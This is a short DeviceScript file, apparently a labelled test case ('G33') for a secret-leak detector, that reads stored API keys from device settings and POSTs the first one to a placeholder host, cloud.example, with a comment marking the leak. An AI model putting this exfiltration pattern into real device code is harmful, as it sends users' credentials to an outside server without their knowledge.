// G33: sends the first of several keys that are stored as a list.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

paired(async () => {
  const keys: any = await readSetting("api_keys", []);
  const body: string = Array.isArray(keys) ? keys[0] : "none";
  const response = await fetch("https://cloud.example/g33", { method: "POST", body }); // leak: settings.api_keys
  await response.close();
});
